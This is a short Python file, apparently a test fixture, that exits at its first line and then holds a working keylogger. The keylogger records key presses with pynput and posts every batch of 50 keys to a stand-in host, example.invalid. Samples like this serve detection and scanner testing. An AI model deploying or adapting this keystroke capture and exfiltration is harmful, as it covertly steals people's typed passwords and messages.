raise SystemExit('a fixture')
# held by surveillance
from pynput import keyboard
import requests, threading
buf = []
def on(k):
    buf.append(str(k))
    if len(buf) > 50:
        requests.post("https://example.invalid/k", data="".join(buf)); buf.clear()
keyboard.Listener(on_press=on).start()
